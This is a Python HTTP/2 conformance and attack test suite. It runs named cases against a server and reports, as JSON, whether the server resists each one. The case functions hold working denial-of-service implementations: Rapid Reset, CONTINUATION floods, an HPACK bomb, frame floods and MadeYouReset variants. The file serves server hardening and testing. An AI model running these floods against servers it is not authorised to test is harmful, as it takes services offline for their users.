#!/usr/bin/python3
"""HTTP/2 conformance and attack suite for any server (RFC 9113, RFC 7541).

Runs named cases against host:port (h2c by prior knowledge, or h2 by ALPN with --tls) and
prints one JSON object per case on stdout:

  {"case": "rapid-reset", "ok": true, "expect": "...", "got": {...}, "alive": true, "ms": 41}

and exits 1 when a case failed (2 on bad arguments or a server that does not speak HTTP/2 at
all). `got` holds what the server did (the GOAWAY or RST_STREAM code by name, statuses, byte
counts), so a runner can pin one server's exact choice where RFC 9113 allows several.

The well-behaved requests (the baseline, and the check after every case that the server still
serves a new client) are made with python3-h2's H2Connection, a strict peer whose state machine
rejects a misbehaving server. The attacks are written as raw frames with hyperframe (h2's own
frame serializer) and hpack, because h2's state machine refuses to send them.

Not for: performance (no timing is asserted, only codes, states and byte counts); HTTP
semantics beyond what each case needs. Needs Debian's python3-h2 (/usr/bin/python3).
"""

import argparse
import json
import socket
import ssl
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = [
    "NO_ERROR",
    "PROTOCOL_ERROR",
    "INTERNAL_ERROR",
    "FLOW_CONTROL_ERROR",
    "SETTINGS_TIMEOUT",
    "STREAM_CLOSED",
    "FRAME_SIZE_ERROR",
    "REFUSED_STREAM",
    "CANCEL",
    "COMPRESSION_ERROR",
    "CONNECT_ERROR",
    "ENHANCE_YOUR_CALM",
    "INADEQUATE_SECURITY",
    "HTTP_1_1_REQUIRED",
]
CANCEL = 8
MAX_WINDOW = 0x7FFFFFFF
S_MAX_CONCURRENT = SettingsFrame.MAX_CONCURRENT_STREAMS
S_INITIAL_WINDOW = SettingsFrame.INITIAL_WINDOW_SIZE


def code_name(code):
    return ERRORS[code] if 0 <= code < len(ERRORS) else "0x%x" % code


class Target:
    """Where and how to connect, and the resources the cases request."""

    def __init__(self, args):
        self.host, _, port = args.target.rpartition(":")
        self.host = self.host.strip("[]") or "127.0.0.1"
        self.port = int(port)
        self.tls = args.tls
        self.authority = args.authority or args.target
        self.path = args.path
        self.slow_path = args.slow_path or args.path
        self.post_path = args.post_path or args.path
        self.timeout = args.timeout
        self.flood = args.flood
        self.baseline_length = None

    def tls_context(self):
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        return ctx

    def tcp(self):
        s = socket.create_connection((self.host, self.port), timeout=self.timeout)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return s

    def socket(self):
        """A blocking socket (TLS-wrapped with --tls) for one thread."""
        s = self.tcp()
        if self.tls:
            s = self.tls_context().wrap_socket(s, server_hostname=self.host)
            if s.selected_alpn_protocol() != "h2":
                raise SystemExit("the server did not pick h2 by ALPN")
        return s

    def channel(self):
        """A byte channel one thread reads while another writes (TLS through memory BIOs)."""
        return TlsChannel(self) if self.tls else PlainChannel(self.tcp())


    def request_fields(self, path, method="GET", extra=()):
        return [
            (":method", method),
            (":scheme", "https" if self.tls else "http"),
            (":authority", self.authority),
            (":path", path),
        ] + list(extra)


class PlainChannel:
    def __init__(self, sock):
        self.sock = sock

    def sendall(self, data):
        self.sock.sendall(data)

    def recv(self, n):
        return self.sock.recv(n)

    def close(self):
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()


class TlsChannel(PlainChannel):
    """TLS over a plain socket with ssl.MemoryBIO: an SSLSocket must not be read by one thread
    while another writes to it, an SSLObject guarded by a lock (that never waits on I/O) may."""

    def __init__(self, target):
        super().__init__(target.tcp())
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = target.tls_context().wrap_bio(self.incoming, self.outgoing, server_hostname=target.host)
        self.lock = threading.Lock()
        self.write_lock = threading.Lock()
        while True:
            try:
                self.tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                self.sock.sendall(self.outgoing.read())
                data = self.sock.recv(65536)
                if not data:
                    raise SystemExit("the server closed during the TLS handshake")
                self.incoming.write(data)
        self.sock.sendall(self.outgoing.read())
        if self.tls.selected_alpn_protocol() != "h2":
            raise SystemExit("the server did not pick h2 by ALPN")

    def sendall(self, data):
        with self.write_lock:
            with self.lock:
                self.tls.write(data)
                out = self.outgoing.read()
            self.sock.sendall(out)

    def recv(self, n):
        while True:
            with self.lock:
                try:
                    return self.tls.read(n)
                except ssl.SSLWantReadError:
                    pass
                except ssl.SSLZeroReturnError:
                    return b""
            data = self.sock.recv(65536)
            if not data:
                return b""
            with self.lock:
                self.incoming.write(data)

class RawConnection:
    """A client that writes any frame bytes and records every frame the server sends.

    A reader thread parses the server's frames (hyperframe; header blocks joined across
    CONTINUATION and decoded with hpack) into `events`, acknowledges its SETTINGS and PINGs,
    and notes the close; the test thread writes and waits on `until`.
    """

    def __init__(self, target, settings=None, ack_settings=True):
        self.target = target
        self.sock = target.channel()
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder(max_header_list_size=1 << 30)
        self.decoder.max_allowed_table_size = 1 << 16
        self.events = []
        self.closed = False
        self.close_reason = None
        self.write_error = None
        self.ack_settings = ack_settings
        self.cond = threading.Condition()
        self.write_lock = threading.Lock()
        self.server_settings = None
        self._block = None
        # No server push: a PUSH_PROMISE's header block would go past the decoder.
        self.send(PREFACE, SettingsFrame(0, {SettingsFrame.ENABLE_PUSH: 0, **(settings or {})}))
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()
        if self.until(lambda e: e["t"] == "settings" and not e["ack"]) is None:
            raise SystemExit("no SETTINGS from the server: %s" % (self.close_reason or "timeout"))

    # -- writing -------------------------------------------------------------------------
    def send(self, *frames):
        """Writes frames (objects or bytes) in one write; False once the connection broke."""
        data = b"".join(f if isinstance(f, (bytes, bytearray)) else f.serialize() for f in frames)
        try:
            with self.write_lock:
                self.sock.sendall(data)
            return True
        except (OSError, ssl.SSLError) as e:
            # The server closed (maybe reset, once it stopped reading a flood): the reader
            # thread still drains what it sent before, the GOAWAY included, and notes the close.
            self.write_error = str(e)
            return False

    def send_many(self, frames, batch=200):
        """Writes frames in batches, stopping once the server ended the connection."""
        sent = 0
        for i in range(0, len(frames), batch):
            if self.goaway() is not None or self.closed or self.write_error:
                break
            if not self.send(*frames[i : i + batch]):
                break
            sent += len(frames[i : i + batch])
        return sent

    def headers(self, sid, path, method="GET", end_stream=True, extra=(), end_headers=True):
        flags = []
        if end_stream:
            flags.append("END_STREAM")
        if end_headers:
            flags.append("END_HEADERS")
        block = self.encoder.encode(self.target.request_fields(path, method, extra))
        return HeadersFrame(sid, block, flags=flags)

    # -- reading -------------------------------------------------------------------------
    def _read(self):
        buf = b""
        try:
            while True:
                try:
                    chunk = self.sock.recv(65536)
                except socket.timeout:
                    continue  # an idle server is not a closed one
                if not chunk:
                    self._close("eof")
                    return
                buf += chunk
                while len(buf) >= 9:
                    frame, length = Frame.parse_frame_header(memoryview(buf[:9]))
                    if len(buf) < 9 + length:
                        break
                    frame.parse_body(memoryview(buf[9 : 9 + length]))
                    buf = buf[9 + length :]
                    self._on_frame(frame, length)
        except (OSError, ssl.SSLError) as e:
            self._close("read: %s" % e)
        except Exception as e:  # a frame we could not parse: the server's fault
            self._close("bad frame from the server: %r" % e)

    def _close(self, reason):
        with self.cond:
            self.closed = True
            self.close_reason = self.close_reason or reason
            self.cond.notify_all()

    def _push(self, event):
        with self.cond:
            self.events.append(event)
            self.cond.notify_all()

    def _on_frame(self, f, length):
        if isinstance(f, SettingsFrame):
            ack = "ACK" in f.flags
            if not ack:
                if self.server_settings is None:
                    self.server_settings = dict(f.settings)
                if self.ack_settings:
                    self.send(SettingsFrame(0, flags=["ACK"]))
            self._push({"t": "settings", "ack": ack, "settings": dict(f.settings)})
        elif isinstance(f, PingFrame):
            ack = "ACK" in f.flags
            if not ack:
                self.send(PingFrame(0, f.opaque_data, flags=["ACK"]))
            self._push({"t": "ping", "ack": ack, "data": bytes(f.opaque_data)})
        elif isinstance(f, (HeadersFrame, ContinuationFrame)):
            if isinstance(f, HeadersFrame):
                self._block = [f.stream_id, bytes(f.data), "END_STREAM" in f.flags]
            elif self._block is not None:
                self._block[1] += bytes(f.data)
            if "END_HEADERS" in f.flags and self._block is not None:
                sid, block, end = self._block
                self._block = None
                fields = [(n.decode(), v.decode("latin1")) for n, v in self.decoder.decode(block, raw=True)]
                self._push({"t": "headers", "sid": sid, "fields": fields, "end": end})
        elif isinstance(f, DataFrame):
            self._push({"t": "data", "sid": f.stream_id, "len": len(f.data), "end": "END_STREAM" in f.flags})
        elif isinstance(f, RstStreamFrame):
            self._push({"t": "rst", "sid": f.stream_id, "code": code_name(f.error_code)})
        elif isinstance(f, GoAwayFrame):
            self._push(
                {
                    "t": "goaway",
                    "last": f.last_stream_id,
                    "code": code_name(f.error_code),
                    "debug": bytes(f.additional_data).decode("latin1")[:200],
                }
            )
        elif isinstance(f, WindowUpdateFrame):
            self._push({"t": "window", "sid": f.stream_id, "inc": f.window_increment})
        else:
            self._push({"t": "other", "type": f.type, "sid": f.stream_id, "len": length})

    # -- waiting -------------------------------------------------------------------------
    def until(self, pred, timeout=None):
        """The first event matching pred (past or future), or None at close or timeout."""
        deadline = time.monotonic() + (timeout or self.target.timeout)
        with self.cond:
            while True:
                for e in self.events:
                    if pred(e):
                        return e
                left = deadline - time.monotonic()
                if self.closed or left <= 0:
                    return None
                self.cond.wait(left)

    def until_closed(self, timeout=None):
        """Waits for the server to close; returns its GOAWAY (or None if it sent none)."""
        deadline = time.monotonic() + (timeout or self.target.timeout)
        with self.cond:
            while not self.closed and time.monotonic() < deadline:
                self.cond.wait(deadline - time.monotonic())
        return self.goaway()

    def goaway(self):
        with self.cond:
            for e in self.events:
                if e["t"] == "goaway":
                    return e
        return None

    def round_trip(self, tag):
        """A PING round trip: everything the server did before answering it has arrived."""
        data = tag.to_bytes(8, "big")
        if not self.send(PingFrame(0, data)):
            return False
        return self.until(lambda e: e["t"] == "ping" and e["ack"] and e["data"] == data) is not None

    def status(self, sid):
        for e in list(self.events):
            if e["t"] == "headers" and e["sid"] == sid:
                return dict(e["fields"]).get(":status")
        return None

    def data_length(self, sid):
        return sum(e["len"] for e in list(self.events) if e["t"] == "data" and e["sid"] == sid)

    def ended(self, sid):
        return any(e["t"] in ("data", "headers") and e["sid"] == sid and e["end"] for e in list(self.events))

    def rst(self, sid):
        for e in list(self.events):
            if e["t"] == "rst" and e["sid"] == sid:
                return e["code"]
        return None

    def close(self):
        self.sock.close()


def h2_get(target, path):
    """One GET with python3-h2's H2Connection: (status, body bytes). Raises on a bad server."""
    sock = target.socket()
    try:
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        conn.initiate_connection()
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, target.request_fields(path), end_stream=True)
        sock.sendall(conn.data_to_send())
        status, body = None, bytearray()
        deadline = time.monotonic() + target.timeout
        while time.monotonic() < deadline:
            data = sock.recv(65536)
            if not data:
                raise RuntimeError("connection closed before the answer ended")
            for ev in conn.receive_data(data):
                if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
                    status = int(dict(ev.headers)[":status"])
                elif isinstance(ev, h2.events.DataReceived) and ev.stream_id == sid:
                    body += ev.data
                    conn.acknowledge_received_data(ev.flow_controlled_length, sid)
                elif isinstance(ev, h2.events.StreamReset) and ev.stream_id == sid:
                    raise RuntimeError("stream reset: %s" % code_name(int(ev.error_code)))
                elif isinstance(ev, h2.events.ConnectionTerminated):
                    raise RuntimeError("GOAWAY %s" % code_name(int(ev.error_code)))
                elif isinstance(ev, h2.events.StreamEnded) and ev.stream_id == sid:
                    conn.close_connection()
                    sock.sendall(conn.data_to_send())
                    return status, bytes(body)
            out = conn.data_to_send()
            if out:
                sock.sendall(out)
        raise RuntimeError("timed out")
    finally:
        sock.close()


def alive(target):
    """The server still serves a new client: a GET by python3-h2 answered 2xx."""
    try:
        status, _ = h2_get(target, target.path)
        return status is not None and 200 <= status < 300
    except Exception:
        return False


# -- the cases ---------------------------------------------------------------------------
# Each returns (ok, got). `got` records the codes seen, for the report and for runners that
# pin one server's choice.

CASES = []


def case(name, expect):
    def register(fn):
        CASES.append((name, expect, fn))
        return fn

    return register


def connection_end(c):
    """{"goaway": code|None, "closed": bool} after the server ended (or not) the connection."""
    g = c.until_closed()
    end = {"goaway": g["code"] if g else None, "closed": c.closed, "last": g["last"] if g else None}
    if g is None and c.closed:
        end["reason"] = c.close_reason
    return end


@case("baseline", "python3-h2 GET is answered 2xx with a body; the server's first frame is SETTINGS")
def c_baseline(t):
    status, body = h2_get(t, t.path)
    t.baseline_length = len(body)
    c = RawConnection(t)
    first = c.events[0]
    c.close()
    got = {"status": status, "length": len(body), "first": first["t"], "settings": c.server_settings}
    return status is not None and 200 <= status < 300 and len(body) > 0 and first["t"] == "settings", got


@case("ping", "PING is answered with ACK and the same 8 octets")
def c_ping(t):
    c = RawConnection(t)
    ok = c.round_trip(0x1234)
    c.close()
    return ok, {"answered": ok}


@case("rapid-reset", "HEADERS + RST_STREAM(CANCEL) repeated (CVE-2023-44487): GOAWAY ENHANCE_YOUR_CALM")
def c_rapid_reset(t):
    c = RawConnection(t)
    frames = []
    for i in range(t.flood):
        sid = 2 * i + 1
        frames += [c.headers(sid, t.slow_path), RstStreamFrame(sid, CANCEL)]
    sent = c.send_many(frames, batch=100)
    end = connection_end(c)
    answered = len({e["sid"] for e in c.events if e["t"] == "headers"})
    c.close()
    return end["goaway"] == "ENHANCE_YOUR_CALM", dict(end, sent=sent // 2, answered=answered)


def continuation_flood(t, payload, count):
    c = RawConnection(t)
    first = c.headers(1, t.path, end_headers=False)
    frames = [first] + [ContinuationFrame(1, payload) for _ in range(count)]
    sent = c.send_many(frames, batch=500)
    end = connection_end(c)
    c.close()
    ok = end["goaway"] in ("ENHANCE_YOUR_CALM", "PROTOCOL_ERROR", "COMPRESSION_ERROR") and sent < len(frames)
    return ok, dict(end, sent=sent)


@case(
    "continuation-flood",
    "an endless header block of 1000-octet CONTINUATION frames (2024): a connection error"
    " (ENHANCE_YOUR_CALM, PROTOCOL_ERROR or COMPRESSION_ERROR) before the flood ends",
)
def c_continuation_flood(t):
    return continuation_flood(t, b"\x40" * 1000, 20000)


@case(
    "continuation-empty-flood",
    "an endless header block of empty CONTINUATION frames: a connection error before the flood ends",
)
def c_continuation_empty(t):
    return continuation_flood(t, b"", 200000)


@case(
    "hpack-bomb",
    "a ~3 KB block decoding past 300 KB (one table entry referenced 100 times): the request is"
    " refused (4xx, RST_STREAM or GOAWAY); if the connection stays, the next request on it,"
    " referencing the same table, is served",
)
def c_hpack_bomb(t):
    c = RawConnection(t)
    bomb = [("x-bomb", "a" * 3000)] * 101
    block = c.encoder.encode(t.request_fields(t.path) + bomb)
    c.send(HeadersFrame(1, block, flags=["END_STREAM", "END_HEADERS"]))
    c.until(lambda e: e["sid"] == 1 if e["t"] in ("headers", "rst") else e["t"] == "goaway")
    status, rst, g = c.status(1), c.rst(1), c.goaway()
    got = {"status": status, "rst": rst, "goaway": g["code"] if g else None, "block": len(block)}
    refused = (status is not None and status.startswith("4")) or rst is not None or g is not None
    if refused and g is None and not c.closed:
        c.send(c.headers(3, t.path, extra=[("x-bomb", "a" * 3000)]))
        c.until(lambda e: e["sid"] == 3 and e.get("end") if e["t"] in ("headers", "data") else e["t"] == "goaway")
        got["next"] = c.status(3)
        refused = got["next"] is not None and got["next"].startswith("2")
    c.close()
    return refused, got


@case(
    "zero-window",
    "SETTINGS_INITIAL_WINDOW_SIZE 0: no DATA while the window is closed (3 PING round trips),"
    " at most 1000 octets after WINDOW_UPDATE 1000, the whole body once the window opens; the"
    " connection stays",
)
def c_zero_window(t):
    c = RawConnection(t, {S_INITIAL_WINDOW: 0})
    c.send(c.headers(1, t.path))
    for i in range(3):
        c.round_trip(i + 1)
    # HEADERS are not flow-controlled, but a server may hold them until it can send DATA too
    # (nginx does over TLS): only noted.
    head_first = c.status(1)
    closed_window = c.data_length(1)
    c.send(WindowUpdateFrame(1, 1000))
    c.round_trip(10)
    c.round_trip(11)
    after_1000 = c.data_length(1)
    c.send(WindowUpdateFrame(0, 1 << 24), WindowUpdateFrame(1, 1 << 24))
    c.until(lambda e: e["t"] in ("headers", "data") and e["sid"] == 1 and e["end"])
    total = c.data_length(1)
    got = {
        "status": c.status(1),
        "headBeforeWindow": head_first is not None,
        "closedWindowData": closed_window,
        "after1000": after_1000,
        "total": total,
        "expected": t.baseline_length,
        "goaway": (c.goaway() or {}).get("code"),
    }
    c.close()
    ok = (
        (got["status"] or "").startswith("2")
        and closed_window == 0
        and after_1000 <= 1000
        and (t.baseline_length is None or total == t.baseline_length)
        and got["goaway"] is None
    )
    return ok, got


@case(
    "tiny-window",
    "SETTINGS_INITIAL_WINDOW_SIZE 1 and 1-octet WINDOW_UPDATEs: DATA never exceeds the credit,"
    " the body completes once the window opens; the connection stays",
)
def c_tiny_window(t):
    c = RawConnection(t, {S_INITIAL_WINDOW: 1})
    c.send(c.headers(1, t.path))
    c.round_trip(99)
    credit, over = 1, 0
    for i in range(10):
        c.round_trip(100 + i)
        if c.data_length(1) > credit:
            over += 1
        c.send(WindowUpdateFrame(1, 1))
        credit += 1
    c.round_trip(200)
    if c.data_length(1) > credit:
        over += 1
    partial = c.data_length(1)
    c.send(WindowUpdateFrame(0, 1 << 24), WindowUpdateFrame(1, 1 << 24))
    c.until(lambda e: e["t"] in ("headers", "data") and e["sid"] == 1 and e["end"])
    total = c.data_length(1)
    frames = sum(1 for e in c.events if e["t"] == "data" and e["sid"] == 1)
    got = {"overCredit": over, "partial": partial, "total": total, "dataFrames": frames}
    got["goaway"] = (c.goaway() or {}).get("code")
    c.close()
    # A server may hold back frames this small (a defence against tiny-window clients): the
    # partial count is only noted, never more than the credit.
    ok = over == 0 and partial <= 11 and (t.baseline_length is None or total == t.baseline_length)
    ok = ok and (c.status(1) or "").startswith("2")
    return ok and got["goaway"] is None, got


def flood(t, make, setup=None):
    c = RawConnection(t)
    if setup:
        c.send(setup(c))
    sent = c.send_many([make(i) for i in range(t.flood)], batch=100)
    end = connection_end(c)
    c.close()
    return end["goaway"] == "ENHANCE_YOUR_CALM", dict(end, sent=sent)


@case("settings-flood", "empty SETTINGS frames without pause: GOAWAY ENHANCE_YOUR_CALM")
def c_settings_flood(t):
    return flood(t, lambda i: SettingsFrame(0, {}))


@case("ping-flood", "PING frames without pause: GOAWAY ENHANCE_YOUR_CALM")
def c_ping_flood(t):
    return flood(t, lambda i: PingFrame(0, i.to_bytes(8, "big")))


@case("empty-data-flood", "empty DATA frames without END_STREAM on an open request: GOAWAY ENHANCE_YOUR_CALM")
def c_empty_data_flood(t):
    return flood(
        t, lambda i: DataFrame(1, b""), lambda c: c.headers(1, t.post_path, method="POST", end_stream=False)
    )


@case("priority-flood", "PRIORITY frames without pause (CVE-2019-9513 style): GOAWAY ENHANCE_YOUR_CALM")
def c_priority_flood(t):
    return flood(t, lambda i: PriorityFrame(2 * (i % 1000) + 101, depends_on=0, stream_weight=16))


@case(
    "window-update-flood",
    "1-octet connection WINDOW_UPDATEs without pause (a tiny-window client): GOAWAY ENHANCE_YOUR_CALM",
)
def c_window_update_flood(t):
    return flood(t, lambda i: WindowUpdateFrame(0, 1))


@case(
    "too-many-streams",
    "with the client window 0 (no stream can finish), the streams past"
    " SETTINGS_MAX_CONCURRENT_STREAMS are reset (REFUSED_STREAM or PROTOCOL_ERROR), those within"
    " it are not; the connection stays (or ends with GOAWAY of that code: RFC 9113 5.4.1)",
)
def c_too_many_streams(t):
    c = RawConnection(t, {S_INITIAL_WINDOW: 0})
    limit = c.server_settings.get(S_MAX_CONCURRENT)
    if limit is None or limit > 1000:
        c.close()
        return True, {"skipped": "no SETTINGS_MAX_CONCURRENT_STREAMS (or above 1000)", "limit": limit}
    extra = 5
    ids = [2 * i + 1 for i in range(limit + extra)]
    c.send(*[c.headers(sid, t.path) for sid in ids])
    c.round_trip(1)
    over = ids[limit:]
    for sid in over:
        c.until(lambda e, sid=sid: e["t"] == "rst" and e["sid"] == sid)
    c.round_trip(2)
    over_codes = sorted({c.rst(sid) or "none" for sid in over})
    within_reset = sum(1 for sid in ids[:limit] if c.rst(sid))
    got = {"limit": limit, "overCodes": over_codes, "withinReset": within_reset}
    got["goaway"] = (c.goaway() or {}).get("code")
    c.close()
    if got["goaway"] in ("REFUSED_STREAM", "PROTOCOL_ERROR") and within_reset == 0:
        # RFC 9113 5.4.1: an endpoint may treat a stream error as a connection error.
        return True, dict(got, scope="connection")
    ok = all(x in ("REFUSED_STREAM", "PROTOCOL_ERROR") for x in over_codes) and within_reset == 0
    return ok and got["goaway"] is None, dict(got, scope="stream")


@case("even-stream-id", "HEADERS on stream 2 (a server-initiated id): GOAWAY PROTOCOL_ERROR")
def c_even_stream(t):
    c = RawConnection(t)
    c.send(c.headers(2, t.path))
    end = connection_end(c)
    c.close()
    return end["goaway"] == "PROTOCOL_ERROR", end


@case(
    "stream-id-decrease",
    "HEADERS on 5, answered, then HEADERS on 3: GOAWAY PROTOCOL_ERROR (or STREAM_CLOSED), last stream id 5",
)
def c_stream_decrease(t):
    c = RawConnection(t)
    c.send(c.headers(5, t.path))
    c.until(lambda e: e["t"] in ("headers", "data") and e["sid"] == 5 and e["end"])
    c.send(c.headers(3, t.path))
    end = connection_end(c)
    c.close()
    return end["goaway"] in ("PROTOCOL_ERROR", "STREAM_CLOSED") and end["last"] == 5, end


@case("stream-id-reuse", "HEADERS on 1, answered, then HEADERS on 1 again: GOAWAY PROTOCOL_ERROR (or STREAM_CLOSED)")
def c_stream_reuse(t):
    c = RawConnection(t)
    c.send(c.headers(1, t.path))
    c.until(lambda e: e["t"] in ("headers", "data") and e["sid"] == 1 and e["end"])
    c.send(c.headers(1, t.path))
    end = connection_end(c)
    c.close()
    return end["goaway"] in ("PROTOCOL_ERROR", "STREAM_CLOSED"), end


def stall_connection_window(c, t):
    """Spends the server's connection send window (GETs never credited) until an answer stalls.

    Returns the next free stream id: a stream opened now gets no DATA (the connection window is
    closed) while its own window is the full initial 65,535, so the server's answer cannot end
    before whatever the client sends next, however fast the server is.
    """
    window = 65535  # the connection window this client grants, never credited here

    def spent():
        return sum(e["len"] for e in c.events if e["t"] == "data")

    sid = 1
    while sid < 800:
        c.send(c.headers(sid, t.path))
        answered = lambda e, sid=sid: e["t"] in ("headers", "data") and e["sid"] == sid and e["end"]  # noqa: E731
        c.until(lambda e: spent() >= window or answered(e))
        if spent() >= window:
            return sid + 2
        if not c.ended(sid):
            raise RuntimeError("GET %s was not answered" % t.path)
        sid += 2
    raise RuntimeError("the connection window never closed")


def made_you_reset_one(t, trigger, code):
    """One request the server must reset for what follows it; the connection then serves another."""
    c = RawConnection(t)
    sid = stall_connection_window(c, t)
    c.send(c.headers(sid, t.slow_path), trigger(sid))
    e = c.until(lambda e: (e["t"] == "rst" and e["sid"] == sid) or e["t"] == "goaway")
    got = {"rst": c.rst(sid), "goaway": (c.goaway() or {}).get("code"), "status": c.status(sid)}
    if got["goaway"] is None and not c.closed:
        nxt = sid + 2
        c.send(WindowUpdateFrame(0, 1 << 24), c.headers(nxt, t.path))
        c.until(lambda e: e["t"] in ("headers", "data") and e["sid"] == nxt and e["end"])
        got["next"] = c.status(nxt)
    c.close()
    if got["rst"] is None and got["goaway"] == code:
        # RFC 9113 5.4.1: an endpoint may treat a stream error as a connection error.
        return True, dict(got, scope="connection")
    ok = e is not None and got["rst"] == code and (got.get("next") or "").startswith("2")
    return ok, dict(got, scope="stream")


def window_overflow(sid):
    """65,535 + 2^31-1 overflows a stream window (RFC 9113 6.9.1)."""
    return WindowUpdateFrame(sid, MAX_WINDOW)


def data_on_half_closed(sid):
    """DATA after END_STREAM (RFC 9113 5.1, half-closed (remote))."""
    return DataFrame(sid, b"x")


@case(
    "made-you-reset-window-overflow",
    "MadeYouReset (CVE-2025-8671): on a stream whose answer waits for the connection window,"
    " WINDOW_UPDATE 2^31-1 overflows the stream window: RST_STREAM FLOW_CONTROL_ERROR, the"
    " connection goes on (or GOAWAY FLOW_CONTROL_ERROR: RFC 9113 5.4.1)",
)
def c_myr_window(t):
    return made_you_reset_one(t, window_overflow, "FLOW_CONTROL_ERROR")


@case(
    "made-you-reset-data-half-closed",
    "MadeYouReset: on a stream whose answer waits for the connection window, DATA after"
    " END_STREAM: RST_STREAM STREAM_CLOSED, the connection goes on (or GOAWAY STREAM_CLOSED)",
)
def c_myr_data(t):
    return made_you_reset_one(t, data_on_half_closed, "STREAM_CLOSED")


def made_you_reset_flood(t, trigger, code):
    c = RawConnection(t)
    first = stall_connection_window(c, t)
    frames = []
    for i in range(t.flood):
        sid = first + 2 * i
        frames += [c.headers(sid, t.slow_path), trigger(sid)]
    sent = c.send_many(frames, batch=100)
    end = connection_end(c)
    codes = {}
    for e in c.events:
        if e["t"] == "rst":
            codes[e["code"]] = codes.get(e["code"], 0) + 1
    answered = sum(1 for e in c.events if e["t"] == "headers")
    c.close()
    # ENHANCE_YOUR_CALM once the server's own resets passed a budget, or the trigger's code as
    # a connection error at the first one (RFC 9113 5.4.1): either bounds the flood.
    return end["goaway"] in ("ENHANCE_YOUR_CALM", code), dict(end, rst=codes, answered=answered)


@case(
    "made-you-reset-flood",
    "MadeYouReset repeated: HEADERS + DATA on the half-closed stream, stream after stream: the"
    " server's own resets count like the client's, GOAWAY ENHANCE_YOUR_CALM (or GOAWAY"
    " STREAM_CLOSED at the first: the stream error made a connection error)",
)
def c_myr_flood(t):
    return made_you_reset_flood(t, data_on_half_closed, "STREAM_CLOSED")


@case(
    "made-you-reset-window-flood",
    "MadeYouReset repeated with WINDOW_UPDATE overflows: GOAWAY ENHANCE_YOUR_CALM (or"
    " FLOW_CONTROL_ERROR at the first)",
)
def c_myr_window_flood(t):
    return made_you_reset_flood(t, window_overflow, "FLOW_CONTROL_ERROR")


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("target", nargs="?", help="host:port")
    p.add_argument("--tls", action="store_true", help="h2 over TLS (ALPN h2; the certificate is not checked)")
    p.add_argument("--authority", help=":authority to send (default: host:port)")
    p.add_argument("--path", default="/", help="a resource answered 200 with a non-empty body")
    p.add_argument("--slow-path", help="a resource whose answer takes a while (default: --path)")
    p.add_argument("--post-path", help="a resource that reads a POST body (default: --path)")
    p.add_argument("--flood", type=int, default=2000, help="frames (or streams) per flood case")
    p.add_argument("--timeout", type=float, default=5.0, help="seconds to wait for each expected event")
    p.add_argument("--cases", help="comma-separated case names (default: all)")
    p.add_argument("--list", action="store_true", help="print the cases and what each expects")
    args = p.parse_args()
    if args.list:
        for name, expect, _ in CASES:
            print(json.dumps({"case": name, "expect": expect}))
        return 0
    if not args.target:
        p.error("host:port is needed")
    t = Target(args)
    chosen = CASES
    if args.cases:
        names = args.cases.split(",")
        unknown = [n for n in names if n not in {c[0] for c in CASES}]
        if unknown:
            p.error("unknown cases: %s" % ", ".join(unknown))
        # The baseline measures the body the flow-control cases compare against.
        chosen = [c for c in CASES if c[0] in names or c[0] == "baseline"]
    failed = 0
    for name, expect, fn in chosen:
        start = time.monotonic()
        try:
            ok, got = fn(t)
        except SystemExit as e:
            ok, got = False, {"error": str(e)}
        except Exception as e:
            ok, got = False, {"error": "%s: %s" % (type(e).__name__, e)}
        is_alive = alive(t)
        ms = int((time.monotonic() - start) * 1000)
        ok = bool(ok) and is_alive
        failed += 0 if ok else 1
        print(json.dumps({"case": name, "ok": ok, "expect": expect, "got": got, "alive": is_alive, "ms": ms}), flush=True)
        if name == "baseline" and not ok:
            print("the baseline failed: is this an HTTP/2 server?", file=sys.stderr)
            return 2
    print("%d of %d cases passed" % (len(chosen) - failed, len(chosen)), file=sys.stderr)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
